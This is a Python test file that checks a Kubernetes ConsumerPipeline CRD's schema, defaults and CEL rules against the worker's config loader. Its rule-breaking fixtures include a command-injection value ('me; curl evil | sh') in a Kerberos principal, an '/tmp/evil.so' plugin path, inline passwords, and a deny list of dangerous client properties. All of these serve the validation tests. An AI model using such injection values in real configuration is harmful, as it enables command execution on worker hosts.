"""The CRD (crds/consumerpipeline.yaml) and the worker's loader agree.

The CRD is what the API server enforces; the loader is what the worker enforces. They must not
drift apart: a manifest the server accepts must run, the server's defaults must mean what the
worker's defaults mean, and every rule the server checks with CEL is mirrored here (and, where
the worker reads the field, also rejected by the loader).
"""

from __future__ import annotations

import copy
import dataclasses
import functools
import re
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from offtake.config import ConfigError, PipelineSpec, load_pipeline, parse_pipeline
from offtake.config.client_properties import (
    has_url_credentials,
    is_secret_property,
    is_secret_spark_property,
    refused_reason,
)
from offtake.config.crd_check import json_schema

ROOT = Path(__file__).resolve().parents[2]
CRD_PATH = ROOT / "crds" / "consumerpipeline.yaml"
HELM_CRD_PATH = ROOT / "helm" / "offtake" / "crds" / "consumerpipeline.yaml"
EXAMPLES = sorted((ROOT / "examples").glob("*.yaml"))

# Fields the operator reads and the worker accepts without interpreting (see loader.py).
OPERATOR_ONLY = {
    ("spec", "rewind"),
    ("spec", "redrive"),
    ("spec", "autoscaling"),
    ("spec", "template"),
    ("spec", "resources"),
    ("spec", "image"),
    ("spec", "serviceMonitor"),
    ("spec", "slo"),
}
CONTAINER_EXTRAS = {
    "resources",
    "env",
    "envFrom",
    "command",
    "args",
    "imagePullPolicy",
    "securityContext",
}

FieldPath = tuple[str, ...]
Node = Mapping[str, Any]


@functools.cache
def _crd() -> dict[str, Any]:
    doc = yaml.safe_load(CRD_PATH.read_text())
    assert isinstance(doc, dict)
    return doc


def _schema() -> dict[str, Any]:
    version = _crd()["spec"]["versions"][0]
    schema = version["schema"]["openAPIV3Schema"]
    assert isinstance(schema, dict)
    return schema


def _snake(name: str) -> str:
    return re.sub(r"(?<!^)(?=[A-Z])", "_", re.sub(r"MiB$", "Mib", name)).lower()


def _camel(name: str) -> str:
    """A dataclass field's manifest name: max_memory_mib -> maxMemoryMiB (units as written)."""
    camel = re.sub(r"_([a-z])", lambda m: m.group(1).upper(), name)
    return re.sub(r"Mib$", "MiB", camel)


# ---------------------------------------------------------------- the schema as JSON Schema


def validate(manifest: Mapping[str, Any]) -> None:
    """Raise if ``manifest`` breaks the CRD's schema or one of its CEL rules."""
    jsonschema.Draft4Validator(
        json_schema(_schema()), format_checker=jsonschema.FormatChecker()
    ).validate(manifest)
    for path, rule, message in cel_rules(_schema()):
        for value in _values_at(manifest, path):
            if not CEL_MIRROR[rule](value):
                raise AssertionError(f"CEL rule at {'.'.join(path) or '<root>'} fails: {message}")


def _values_at(doc: Any, path: tuple[str, ...]) -> Iterator[Any]:
    if not path:
        yield doc
        return
    if isinstance(doc, Mapping) and path[0] in doc:
        yield from _values_at(doc[path[0]], path[1:])


def apply_defaults(node: Mapping[str, Any], value: Any) -> Any:
    """Default ``value`` the way the API server does: absent fields with a default get it."""
    if not isinstance(value, dict) or node.get("type") != "object":
        return value
    out = dict(value)
    for name, sub in node.get("properties", {}).items():
        if name not in out and "default" in sub:
            out[name] = copy.deepcopy(sub["default"])
        if name in out:
            out[name] = apply_defaults(sub, out[name])
    return out


# ---------------------------------------------------------------- CEL rules, mirrored in Python


def _has(d: Mapping[str, Any], key: str) -> bool:
    return key in d


_CLUSTER_ONLY = ("image", "serviceAccount", "server", "executors")


def _injects(s: Mapping[str, Any]) -> bool:
    return s.get("mode") == "inject"


def _container(s: Mapping[str, Any]) -> Mapping[str, Any] | None:
    c = (s.get("processor") or {}).get("container")
    return c if isinstance(c, Mapping) else None


CEL_MIRROR: dict[str, Callable[[Any], bool]] = {
    "(has(self.mode) && self.mode == 'inject') || !has(self.processor) "
    "|| !has(self.processor.container) || has(self.processor.container.image)": lambda s: (
        _injects(s) or _container(s) is None or "image" in (_container(s) or {})
    ),
    "!(has(self.mode) && self.mode == 'inject') || (has(self.processor) "
    "&& has(self.processor.container))": lambda s: not _injects(s) or _container(s) is not None,
    "!(has(self.mode) && self.mode == 'inject') || !has(self.processor) "
    "|| !has(self.processor.container) || !has(self.processor.container.image)": lambda s: (
        not _injects(s) or "image" not in (_container(s) or {})
    ),
    "!(has(self.mode) && self.mode == 'inject') || !has(self.paused) || !self.paused": lambda s: (
        not _injects(s) or not s.get("paused")
    ),
    "self.all(k, !(k.lowerAscii() in ['plugin.library.paths', 'interceptors', "
    "'ssl.engine.location', 'ssl.engine.id', 'ssl.providers', 'ssl_engine_callback_data', "
    "'sasl.kerberos.kinit.cmd', 'opaque', 'default_topic_conf', 'msg_order_cmp', "
    "'ssl_key', 'ssl_certificate', 'ssl_ca', 'logger', 'on_delivery', 'on_commit'] || "
    "k.lowerAscii().endsWith('_cb')))": (lambda s: not any(refused_reason(k) for k in s)),
    "['sasl.kerberos.principal', 'sasl.kerberos.keytab'].all(k, !(k in self) || "
    "string(self[k]).matches('^[A-Za-z0-9._/@:+=-]+$'))": (
        lambda s: not any(refused_reason(k, v) for k, v in s.items())
    ),
    "self.all(k, !(k.lowerAscii().endsWith('password') || "
    "k.lowerAscii().endsWith('secret') || k.lowerAscii().endsWith('passphrase') || "
    "k.lowerAscii() in ['sasl.jaas.config', 'ssl.key.pem', 'ssl_key.pem', "
    "'sasl.oauthbearer.config', 'sasl.oauthbearer.assertion.private.key.pem']))": (
        lambda s: not any(is_secret_property(k) for k in s)
    ),
    "self.all(k, !(['password', 'secret', 'token', 'access.key', 'account.key', "
    "'private.key', '.sas.'].exists(m, k.lowerAscii().contains(m))))": (
        lambda s: not any(is_secret_spark_property(k) for k in s)
    ),
    "!self.catalogUri.matches('(?i)(^[a-z][a-z0-9+.:-]*://[^/?#@]*:[^/?#@]*@|[?&;][ "
    "]*(password|pwd|token)[ ]*=|^jdbc:oracle:[a-z]+:[^@/]*/[^@]*@)')": (
        lambda s: not has_url_credentials(s["catalogUri"])
    ),
    "!self.url.matches('(?i)(^[a-z][a-z0-9+.:-]*://[^/?#@]*:[^/?#@]*@|[?&;][ "
    "]*(password|pwd|token)[ ]*=|^jdbc:oracle:[a-z]+:[^@/]*/[^@]*@)')": (
        lambda s: not has_url_credentials(s["url"])
    ),
    "!has(self.connectUrl) || "
    "!self.connectUrl.matches('(?i)(^[a-z][a-z0-9+.:-]*://[^/?#@]*:[^/?#@]*@|[?&;][ "
    "]*(password|pwd|token)[ ]*=|^jdbc:oracle:[a-z]+:[^@/]*/[^@]*@)')": (
        lambda s: "connectUrl" not in s or not has_url_credentials(s["connectUrl"])
    ),
    "!has(self.password)": lambda s: "password" not in s,
    "!(has(self.secretRef) && has(self.passwordSecretRef))": (
        lambda s: not ("secretRef" in s and "passwordSecretRef" in s)
    ),
    "!has(self.tokenSecretRef) || (has(self.mode) && self.mode == 'connect')": (
        lambda s: "tokenSecretRef" not in s or s.get("mode") == "connect"
    ),
    "self.metadata.name.size() <= 55": lambda s: len(s["metadata"]["name"]) <= 55,
    "self.metadata.name.matches('^[a-z]([-a-z0-9]*[a-z0-9])?$')": lambda s: (
        re.search(r"^[a-z]([-a-z0-9]*[a-z0-9])?$", s["metadata"]["name"]) is not None
    ),
    "!has(self.source.groupType) || self.source.groupType != 'share' || "
    "!has(self.sink.kafka) || !has(self.sink.kafka.delivery) || "
    "self.sink.kafka.delivery != 'exactly-once'": lambda s: (
        s["source"].get("groupType") != "share"
        or (s["sink"].get("kafka") or {}).get("delivery") != "exactly-once"
    ),
    "!has(self.source.groupType) || self.source.groupType != 'share' || !has(self.errors) || "
    "!has(self.errors.maxRetries) || self.errors.maxRetries <= 8": lambda s: (
        s["source"].get("groupType") != "share" or (s.get("errors") or {}).get("maxRetries", 3) <= 8
    ),
    "!has(self.source.groupType) || self.source.groupType != 'share' || !has(self.errors) || "
    "!has(self.errors.retryTopics) || size(self.errors.retryTopics) == 0": lambda s: (
        s["source"].get("groupType") != "share" or not (s.get("errors") or {}).get("retryTopics")
    ),
    "!(has(self.function) && has(self.container))": lambda s: (
        not (_has(s, "function") and _has(s, "container"))
    ),
    "!has(self.batch) || !self.batch || has(self.function)": lambda s: (
        not s.get("batch") or _has(s, "function")
    ),
    "!has(self.parallelism) || self.parallelism == 1 || has(self.function)": lambda s: (
        s.get("parallelism", 1) == 1 or _has(s, "function")
    ),
    "!has(self.timeoutSeconds) || has(self.function)": lambda s: (
        not _has(s, "timeoutSeconds") or _has(s, "function")
    ),
    "!has(self.maxMemoryMiB) || has(self.function)": lambda s: (
        not _has(s, "maxMemoryMiB") or _has(s, "function")
    ),
    "(has(self.kafka) ? 1 : 0) + (has(self.spark) ? 1 : 0) + (has(self.log) ? 1 : 0) == 1": (
        lambda s: sum(_has(s, k) for k in ("kafka", "spark", "log")) == 1
    ),
    "self.format == 'jdbc' ? has(self.jdbc) : has(self.path)": lambda s: (
        _has(s, "jdbc") if s["format"] == "jdbc" else _has(s, "path")
    ),
    "!has(self.mode) || self.mode != 'connect' || has(self.connectUrl)": lambda s: (
        not _has(s, "mode") or s["mode"] != "connect" or _has(s, "connectUrl")
    ),
    "self.format == 'iceberg' ? (has(self.iceberg) && !has(self.partitionBy)) "
    ": !has(self.iceberg)": lambda s: (
        (_has(s, "iceberg") and not _has(s, "partitionBy"))
        if s["format"] == "iceberg"
        else not _has(s, "iceberg")
    ),
    "!has(self.mode) || self.mode != 'kubernetes' || !has(self.connectUrl)": lambda s: (
        not _has(s, "mode") or s["mode"] != "kubernetes" or not _has(s, "connectUrl")
    ),
    "(has(self.mode) && self.mode == 'kubernetes') || !(has(self.image) || "
    "has(self.serviceAccount) || has(self.server) || has(self.executors))": lambda s: (
        s.get("mode") == "kubernetes" or not any(_has(s, k) for k in _CLUSTER_ONLY)
    ),
    "!has(self.policy) || self.policy != 'dlq' || has(self.dlq)": lambda s: (
        not _has(s, "policy") or s["policy"] != "dlq" or _has(s, "dlq")
    ),
    "!has(self.retryTopics) || size(self.retryTopics) == 0 || !has(self.ordering) "
    "|| self.ordering != 'strict'": lambda s: (
        not s.get("retryTopics") or s.get("ordering") != "strict"
    ),
    "!has(self.redrive) || has(self.redrive.from) || (has(self.errors) && has(self.errors.dlq))": (
        lambda s: (
            not _has(s, "redrive")
            or _has(s["redrive"], "from")
            or (_has(s, "errors") and _has(s["errors"], "dlq"))
        )
    ),
    "self.to != 'timestamp' || has(self.timestamp)": lambda s: (
        s["to"] != "timestamp" or _has(s, "timestamp")
    ),
    "!has(self.format) || !(self.format in ['avro', 'protobuf', 'jsonschema']) "
    "|| has(self.schemaRegistry)": lambda s: (
        s.get("format") not in ("avro", "protobuf", "jsonschema") or _has(s, "schemaRegistry")
    ),
    "!has(self.format) || !(self.format in ['avro', 'jsonschema']) || has(self.schema)": lambda s: (
        s.get("format") not in ("avro", "jsonschema") or _has(s, "schema")
    ),
    "!has(self.format) || self.format != 'protobuf' || has(self.protobufMessage)": lambda s: (
        s.get("format") != "protobuf" or _has(s, "protobufMessage")
    ),
    "!has(self.minReplicas) || !has(self.maxReplicas) || self.minReplicas <= self.maxReplicas": (
        lambda s: (
            not _has(s, "minReplicas")
            or not _has(s, "maxReplicas")
            or s["minReplicas"] <= s["maxReplicas"]
        )
    ),
    "!has(self.targetLagSeconds) || !has(self.targetLagPerReplica)": lambda s: (
        not _has(s, "targetLagSeconds") or not _has(s, "targetLagPerReplica")
    ),
}


def cel_rules(node: Node, path: FieldPath = ()) -> Iterator[tuple[FieldPath, str, str]]:
    for v in node.get("x-kubernetes-validations", []):
        yield path, v["rule"], v.get("message", "")
    for name, sub in node.get("properties", {}).items():
        yield from cel_rules(sub, (*path, name))
    if isinstance(node.get("items"), dict):
        yield from cel_rules(node["items"], path)


# ---------------------------------------------------------------- sample manifests


def minimal() -> dict[str, Any]:
    return {
        "apiVersion": "offtake.dev/v1alpha1",
        "kind": "ConsumerPipeline",
        "metadata": {"name": "p", "namespace": "ns"},
        "spec": {
            "kafka": {"bootstrapServers": "kafka:9092"},
            "source": {"topics": ["orders"]},
            "sink": {"log": {}},
        },
    }


SAMPLE_STRINGS = {
    "function": "pkg.mod:handle",
    "transform": "pkg.jobs:clean",
    "timestamp": "2024-05-01T12:00:00Z",
    "until": "2024-05-01T12:00:00Z",
    "path": "/v1/process",
    "connectUrl": "sc://spark:15002",
    "url": "http://registry:8080/apis/ccompat/v7",
    "protobufMessage": "pkg.orders_pb2:Order",
    "prometheusAddress": "http://prometheus:9090",
    "table": "lake.orders",
    "memory": "2g",
}


def sample(node: Mapping[str, Any], name: str) -> Any:
    """A valid value for a schema node, with every required field of objects filled in."""
    if "default" in node:
        return copy.deepcopy(node["default"])
    if "enum" in node:
        return node["enum"][0]
    if node.get("x-kubernetes-int-or-string"):
        return "1"
    kind = node.get("type")
    if kind == "string":
        if name == "path" and "pattern" not in node:
            return "s3a://lake/x"
        return SAMPLE_STRINGS.get(name, "x")
    if kind == "integer":
        return max(1, node.get("minimum", 1))
    if kind == "number":
        return max(1.0, float(node.get("minimum", 1)))
    if kind == "boolean":
        return True
    if kind == "array":
        return [sample(node["items"], name)]
    if kind == "object" or node.get("x-kubernetes-preserve-unknown-fields"):
        props = node.get("properties", {})
        return {k: sample(props[k], k) for k in node.get("required", [])}
    raise AssertionError(f"no sample for {name}: {node}")


def leaves(node: Node, path: FieldPath = ()) -> Iterator[tuple[FieldPath, Node]]:
    """Every settable field below ``node``: scalars, lists and free-form maps."""
    props = node.get("properties")
    if node.get("type") == "object" and props:
        for name, sub in props.items():
            yield from leaves(sub, (*path, name))
    elif node.get("type") == "array" and node["items"].get("properties"):
        yield path, node  # a list of objects: set as a whole
    else:
        yield path, node


def leaf_values(node: Mapping[str, Any], name: str) -> list[Any]:
    """The values worth trying for a leaf: every enum member, else the bounds, else a sample."""
    if "enum" in node:
        return list(node["enum"])
    if node.get("type") in ("integer", "number"):
        values = {node[b] for b in ("minimum", "maximum") if b in node}
        return sorted(values) or [sample(node, name)]
    if node.get("type") == "boolean":
        return [True, False]
    if node.get("type") == "object" and "additionalProperties" in node:
        if node["additionalProperties"].get("x-kubernetes-int-or-string"):
            return [{"some.key": "v", "n": 5}]
        return [{"some.key": "v"}]
    return [sample(node, name)]


def set_path(manifest: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    """Set ``value`` at ``path``, creating parents with their required fields."""
    node: Mapping[str, Any] = _schema()
    here: dict[str, Any] = manifest
    for i, key in enumerate(path):
        node = node["properties"][key]
        if i == len(path) - 1:
            here[key] = value
            break
        if key == "sink" and path[i + 1] not in here.get("sink", {}):
            here["sink"] = {}  # exactly one sink: replace the minimal one
        if key not in here:
            here[key] = sample(node, key)
        here = here[key]
    fix_cross_field_rules(manifest)


def fix_cross_field_rules(m: dict[str, Any]) -> None:
    """Make a manifest satisfy the CEL rules that tie fields together."""
    spec = m["spec"]
    container = _container(spec)
    if _injects(spec):  # the app container is the processor: a port, no image, no pause
        spec.pop("paused", None)
        processor = spec.setdefault("processor", {})
        processor.pop("function", None)
        processor.setdefault("container", {}).pop("image", None)
    elif container is not None and "image" not in container:
        spec["processor"]["container"] = {"image": "registry/app:1", **container}
    spark = spec["sink"].get("spark")
    if spark is not None:
        if "jdbc" in spark:
            spark["format"] = "jdbc"
        elif spark["format"] == "jdbc":
            spark["jdbc"] = {"url": "jdbc:postgresql://db/x", "table": "t"}
        else:
            spark.setdefault("path", "s3a://lake/x")
        if "iceberg" in spark:
            spark["format"] = "iceberg"
        if spark["format"] == "iceberg":
            spark.setdefault("iceberg", {"table": "lake.orders", "catalogUri": "sqlite://"})
            if "partitionBy" in spark:
                spark["format"] = "parquet"
                del spark["iceberg"]
        submit = spark.get("submit", {})
        if any(k in submit for k in _CLUSTER_ONLY):
            submit["mode"] = "kubernetes"
        if submit.get("mode") == "kubernetes":
            submit.pop("connectUrl", None)
        if "tokenSecretRef" in submit:
            submit["mode"] = "connect"
        if submit.get("mode") == "connect":
            submit.setdefault("connectUrl", "sc://spark:15002")
    source = spec["source"]
    if "protobufMessage" in source:
        source["format"] = "protobuf"
    if source.get("format") in ("avro", "protobuf", "jsonschema"):
        source.setdefault("schemaRegistry", {"url": "http://registry:8080"})
    if source.get("format") == "protobuf":
        source.setdefault("protobufMessage", "pkg.orders_pb2:Order")
    kafka = spec["sink"].get("kafka")
    if kafka is not None:
        if "protobufMessage" in kafka:
            kafka["format"] = "protobuf"
        elif kafka.get("format", "json") == "json" and (
            "schema" in kafka or "schemaRegistry" in kafka or kafka.get("autoRegister")
        ):
            kafka["format"] = "avro"
        if kafka.get("format") in ("avro", "jsonschema"):
            kafka.setdefault("schema", {"subject": "orders-value"})
            if kafka.get("autoRegister"):
                kafka["schema"].setdefault("file", "/schemas/order.avsc")
        if kafka.get("format") == "protobuf":
            kafka.setdefault("protobufMessage", "pkg.orders_pb2:Order")
            kafka.get("schema", {}).pop("file", None)
        if kafka.get("format", "json") != "json":
            kafka.setdefault("schemaRegistry", {"url": "http://registry:8080"})
    processor = spec.get("processor")
    needs_function = processor is not None and (
        processor.get("batch")
        or processor.get("parallelism", 1) != 1
        or "timeoutSeconds" in processor
        or "maxMemoryMiB" in processor
    )
    if processor is not None and needs_function and "container" not in processor:
        processor.setdefault("function", "a:b")
    errors = spec.get("errors", {})
    if errors.get("policy") == "dlq":
        errors.setdefault("dlq", {"topic": "dlq"})
    rewind = spec.get("rewind")
    if rewind is not None and rewind.get("to") == "timestamp":
        rewind.setdefault("timestamp", "2024-05-01T12:00:00Z")
    redrive = spec.get("redrive")
    if redrive is not None and "dlq" not in spec.get("errors", {}):
        redrive.setdefault("from", "dlq")
    auto = spec.get("autoscaling")
    if auto is not None and auto.get("minReplicas", 1) > auto.get("maxReplicas", 10):
        auto["maxReplicas"] = auto["minReplicas"]


def spec_value(parsed: PipelineSpec, path: tuple[str, ...]) -> Any:
    """The parsed value for a manifest path (camelCase keys, 'spec' first)."""
    value: Any = parsed
    for key in path[1:]:
        value = getattr(value, _snake(key))
    return value


def worker_reads(path: tuple[str, ...]) -> bool:
    if path[:2] in OPERATOR_ONLY:
        return False
    if path[:3] == ("spec", "processor", "container") and len(path) > 3:
        return path[3] not in CONTAINER_EXTRAS
    return True


# ---------------------------------------------------------------- tests


def test_crd_names_subresources_and_columns() -> None:
    crd = _crd()
    spec = crd["spec"]
    assert crd["metadata"]["name"] == "consumerpipelines.offtake.dev"
    assert spec["group"] == "offtake.dev"
    assert spec["names"]["kind"] == "ConsumerPipeline"
    assert spec["names"]["plural"] == "consumerpipelines"
    assert spec["names"]["shortNames"] == ["cpl"]
    (version,) = spec["versions"]
    assert version["name"] == "v1alpha1" and version["served"] and version["storage"]
    assert version["subresources"]["status"] == {}
    assert version["subresources"]["scale"] == {
        "specReplicasPath": ".spec.replicas",
        "statusReplicasPath": ".status.replicas",
        "labelSelectorPath": ".status.selector",
    }
    columns = [c["name"] for c in version["additionalPrinterColumns"] if not c.get("priority")]
    assert columns == [
        *("Phase", "Ready", "Replicas", "Group", "Lag", "Lag(s)", "Reason", "Message", "Age")
    ]
    wide = [c["name"] for c in version["additionalPrinterColumns"] if c.get("priority") == 1]
    assert wide == ["Partitions", "Up-to-date", "Autoscaler"]
    schema = _schema()
    for column in version["additionalPrinterColumns"]:
        path = column["jsonPath"].strip(".").split(".")
        if path[0] == "metadata":
            continue
        node: Mapping[str, Any] = schema
        for key in path:
            node = node["properties"][key]
        assert node["type"] == column["type"], column


def _walk_nodes(node: Mapping[str, Any], path: str = "") -> Iterator[tuple[str, Mapping[str, Any]]]:
    yield path, node
    for name, sub in node.get("properties", {}).items():
        yield from _walk_nodes(sub, f"{path}.{name}")
    for key in ("items", "additionalProperties"):
        if isinstance(node.get(key), dict):
            yield from _walk_nodes(node[key], f"{path}[{key}]")


def test_schema_is_structural() -> None:
    """Every node has a type unless an extension stands in for it (the server insists)."""
    for path, node in _walk_nodes(_schema()):
        if any(node.get(f"x-kubernetes-{x}") for x in ("int-or-string", "preserve-unknown-fields")):
            continue
        assert "type" in node, f"{path or '<root>'} has no type"
        if "properties" in node:
            assert "additionalProperties" not in node, f"{path}: both kinds of properties"


def test_defaults_are_valid_for_their_fields() -> None:
    for path, node in _walk_nodes(_schema()):
        if "default" in node:
            jsonschema.Draft4Validator(json_schema(node)).validate(node["default"])
            assert path, "no default at the root"


@pytest.mark.parametrize("example", EXAMPLES, ids=[e.name for e in EXAMPLES])
def test_examples_parse_and_validate(example: Path) -> None:
    parsed = load_pipeline(example)
    manifest = yaml.safe_load(example.read_text())
    validate(manifest)
    assert "namespace" not in manifest["metadata"], "examples are applied with kubectl -n"
    # What the server stores (with its defaults) means the same to the worker.
    assert parse_pipeline(apply_defaults(_schema(), manifest)) == parsed


def test_there_are_examples_of_each_sink_and_processor_mode() -> None:
    specs = [load_pipeline(e) for e in EXAMPLES]
    assert {s.sink.kind for s in specs} >= {"kafka", "spark", "log"}
    assert any(s.processor.function for s in specs)
    assert any(s.processor.container for s in specs)
    assert any(s.sink.spark and s.sink.spark.format == "parquet" for s in specs)


LEAVES = [(p, n) for p, n in leaves(_schema()["properties"]["spec"], ("spec",))]
#: Fields the CRD describes only to refuse them (an inline secret), with the loader.
REFUSED_LEAVES = {("spec", "sink", "spark", "jdbc", "password")}


@pytest.mark.parametrize(("path", "node"), LEAVES, ids=[".".join(p) for p, _ in LEAVES])
def test_every_leaf_field_accepted_by_the_crd_parses(path: FieldPath, node: Node) -> None:
    for value in leaf_values(node, path[-1]):
        manifest = minimal()
        set_path(manifest, path, copy.deepcopy(value))
        if path in REFUSED_LEAVES:
            # Kept in the schema to be refused with a message naming the Secret form instead.
            with pytest.raises(AssertionError, match="CEL rule"):
                validate(manifest)
            with pytest.raises(ConfigError, match="must not be inline"):
                parse_pipeline(manifest)
            continue
        validate(manifest)  # the generator made a manifest the server accepts...
        try:
            parsed = parse_pipeline(manifest)  # ...and the worker runs it
        except ConfigError as exc:
            pytest.fail(f"{'.'.join(path)}={value!r} passes the CRD but not the loader: {exc}")
        if not worker_reads(path):
            continue
        got = spec_value(parsed, path)
        if dataclasses.is_dataclass(got):
            continue  # an empty object such as sink.log: parsed into its (field-less) class
        if isinstance(value, list) and got and dataclasses.is_dataclass(got[0]):
            assert [_as_manifest(g) for g in got] == value  # a list of objects
        elif isinstance(value, list):
            assert list(got) == value
        elif isinstance(value, dict):
            assert got == {k: str(v) for k, v in value.items()}
        elif isinstance(value, bool) or not isinstance(value, int | float):
            assert got == value
        else:
            assert got == pytest.approx(value)


def _as_manifest(obj: Any) -> dict[str, Any]:
    """A spec dataclass back as its manifest mapping (camelCase keys)."""
    return {_camel(k): v for k, v in dataclasses.asdict(obj).items()}


def _dataclass_defaults(cls: type, path: tuple[str, ...]) -> Iterator[tuple[tuple[str, ...], Any]]:
    """(manifest path, default) for every scalar default in the spec dataclasses."""
    hints = {f.name: f for f in dataclasses.fields(cls)}
    for name, f in hints.items():
        camel = _camel(name)
        if f.default is not dataclasses.MISSING:
            if f.default is not None and not isinstance(f.default, tuple):
                yield (*path, camel), f.default
        elif f.default_factory is not dataclasses.MISSING:
            made = f.default_factory()
            if dataclasses.is_dataclass(made):
                yield from _dataclass_defaults(type(made), (*path, camel))


NESTED_TYPES: dict[tuple[str, ...], type] = {}


def _field_types() -> None:
    """Map manifest paths of nested dataclasses (including optional ones) to their classes."""
    import typing

    from offtake.config import spec as spec_module

    def visit(cls: type, path: tuple[str, ...]) -> None:
        NESTED_TYPES[path] = cls
        hints = typing.get_type_hints(cls, vars(spec_module))
        for f in dataclasses.fields(cls):
            camel = _camel(f.name)
            for arg in (hints[f.name], *typing.get_args(hints[f.name])):
                if dataclasses.is_dataclass(arg):
                    visit(arg, (*path, camel))  # type: ignore[arg-type]

    visit(PipelineSpec, ("spec",))


_field_types()


def _crd_defaults(node: Node, path: FieldPath) -> Iterator[tuple[FieldPath, Any]]:
    for name, sub in node.get("properties", {}).items():
        if "default" in sub and sub["default"] != {}:
            yield (*path, name), sub["default"]
        yield from _crd_defaults(sub, (*path, name))


def test_crd_defaults_equal_the_dataclass_defaults() -> None:
    spec_node = _schema()["properties"]["spec"]
    ours = {p: v for p, v in _crd_defaults(spec_node, ("spec",)) if worker_reads(p)}
    theirs: dict[tuple[str, ...], Any] = {}
    for path, cls in NESTED_TYPES.items():
        depth = len(path)
        for p, v in _dataclass_defaults(cls, path):
            if len(p) == depth + 1:
                theirs[p] = v
    theirs = {p: v for p, v in theirs.items() if p[1:2] != ("name",)}
    assert ours == theirs


def test_every_dataclass_field_is_in_the_crd() -> None:
    spec_node = _schema()["properties"]["spec"]
    for path, cls in NESTED_TYPES.items():
        node: Mapping[str, Any] = {"properties": {"spec": spec_node}}
        for key in path:
            node = node["properties"][key]
            if node.get("type") == "array":
                node = node["items"]  # a list of objects: its items are the dataclass
        for f in dataclasses.fields(cls):
            if path == ("spec",) and f.name in ("name", "namespace"):
                continue
            camel = _camel(f.name)
            where = f"{'.'.join(path)}.{camel}"
            assert camel in node.get("properties", {}), f"{where} is not in the CRD"


def test_required_fields_agree_with_the_loader() -> None:
    """Dropping a field the CRD requires makes the loader fail too, naming the field."""

    def required(node: Mapping[str, Any], path: tuple[str, ...]) -> Iterator[tuple[str, ...]]:
        for name in node.get("required", []):
            yield (*path, name)
        for name, sub in node.get("properties", {}).items():
            yield from required(sub, (*path, name))

    for path in required(_schema()["properties"]["spec"], ("spec",)):
        if not worker_reads(path):
            continue
        manifest = minimal()
        set_path(manifest, path, sample(_node_at(path), path[-1]))
        parent = manifest
        for key in path[:-1]:
            parent = parent[key]
        del parent[path[-1]]
        with pytest.raises(ConfigError) as err:
            parse_pipeline(manifest)
        assert path[-1] in str(err.value) or path[-2] in str(err.value), err.value


def _node_at(path: tuple[str, ...]) -> Mapping[str, Any]:
    node: Mapping[str, Any] = _schema()
    for key in path:
        node = node["properties"][key]
    return node


def test_defaults_satisfy_the_cel_rules_of_their_node() -> None:
    """The API server evaluates a node's rules on its default as written, before the defaults
    of the fields inside it apply (so a rule must not assume those)."""
    for path, node in _walk_nodes(_schema()):
        for rule in node.get("x-kubernetes-validations", []):
            if "default" in node:
                assert CEL_MIRROR[rule["rule"]](node["default"]), f"{path}: {rule['rule']}"


def test_every_cel_rule_is_mirrored() -> None:
    rules = {rule for _, rule, _ in cel_rules(_schema())}
    assert rules == set(CEL_MIRROR)


# One manifest breaking each rule; None where the rule guards a field only the operator reads.
def _breaking(rule: str) -> tuple[dict[str, Any], bool]:
    m = minimal()
    spec = m["spec"]
    loader_rejects = True
    json_sink = {"format": "json", "path": "/x"}
    if "plugin.library.paths" in rule:
        spec["kafka"]["config"] = {"plugin.library.paths": "/tmp/evil.so"}
    elif "sasl.kerberos.principal" in rule:
        spec["kafka"]["config"] = {"sasl.kerberos.principal": "me; curl evil | sh"}
    elif "'.sas.'" in rule:
        conf = {"spark.hadoop.fs.s3a.secret.key": "hunter2"}
        spec["sink"] = {"spark": {**json_sink, "submit": {"conf": conf}}}
    elif "self.catalogUri.matches" in rule:
        iceberg = {"table": "lake.orders", "catalogUri": "postgresql+psycopg://u:pw@db/x"}
        spec["sink"] = {"spark": {"format": "iceberg", "path": "/x", "iceberg": iceberg}}
    elif "self.url.matches" in rule:
        jdbc = {"url": "jdbc:postgresql://db/x?password=pw", "table": "t"}
        spec["sink"] = {"spark": {"format": "jdbc", "jdbc": jdbc}}
    elif "self.connectUrl.matches" in rule:
        submit = {"mode": "connect", "connectUrl": "sc://spark:15002/;token=pw"}
        spec["sink"] = {"spark": {**json_sink, "submit": submit}}
    elif "!has(self.password)" in rule:
        jdbc = {"url": "jdbc:postgresql://db/x", "table": "t", "password": "pw"}
        spec["sink"] = {"spark": {"format": "jdbc", "jdbc": jdbc}}
    elif "has(self.passwordSecretRef)" in rule:
        ref = {"name": "db", "key": "password"}
        jdbc = {"url": "jdbc:x", "table": "t", "secretRef": {"name": "db"}}
        jdbc["passwordSecretRef"] = ref
        spec["sink"] = {"spark": {"format": "jdbc", "jdbc": jdbc}}
    elif "has(self.tokenSecretRef)" in rule:
        submit = {"mode": "local", "tokenSecretRef": {"name": "spark", "key": "token"}}
        spec["sink"] = {"spark": {**json_sink, "submit": submit}}
    elif "size(self.errors.retryTopics) == 0" in rule:
        spec["source"]["groupType"] = "share"
        spec["errors"] = {"retryTopics": [{"delaySeconds": 10}]}
    elif "maxRetries <= 8" in rule:
        spec["source"]["groupType"] = "share"
        spec["errors"] = {"maxRetries": 9}
    elif "groupType" in rule:
        spec["source"]["groupType"] = "share"
        spec["sink"] = {"kafka": {"topic": "t", "delivery": "exactly-once"}}
    elif "self.paused" in rule:
        spec.update(mode="inject", paused=True, processor={"container": {"port": 8080}})
    elif "|| has(self.processor.container.image)" in rule:
        spec["processor"] = {"container": {"port": 8080}}
    elif "&& has(self.processor.container))" in rule:
        spec["mode"] = "inject"
    elif "!has(self.processor.container.image)" in rule:
        spec.update(mode="inject", processor={"container": {"image": "app:1"}})
    elif "size() <= 55" in rule:
        m["metadata"]["name"] = "p" * 56
        loader_rejects = False
    elif "matches(" in rule:
        m["metadata"]["name"] = "9lives"
        loader_rejects = False
    elif "lowerAscii" in rule:
        spec["kafka"]["config"] = {"sasl.password": "hunter2"}
    elif "self.batch" in rule:
        spec["processor"] = {"batch": True}
    elif "self.parallelism" in rule:
        spec["processor"] = {"parallelism": 2}
    elif "self.timeoutSeconds" in rule:
        spec["processor"] = {"timeoutSeconds": 5}
    elif "self.maxMemoryMiB" in rule:
        spec["processor"] = {"maxMemoryMiB": 256}
    elif "has(self.function)" in rule:
        spec["processor"] = {"function": "a:b", "container": {"image": "img"}}
    elif "has(self.kafka)" in rule:
        spec["sink"] = {"log": {}, "kafka": {"topic": "t"}}
    elif "has(self.jdbc)" in rule:
        spec["sink"] = {"spark": {"format": "parquet"}}
    elif "has(self.iceberg)" in rule:
        spec["sink"] = {"spark": {"format": "iceberg", "path": "/x"}}
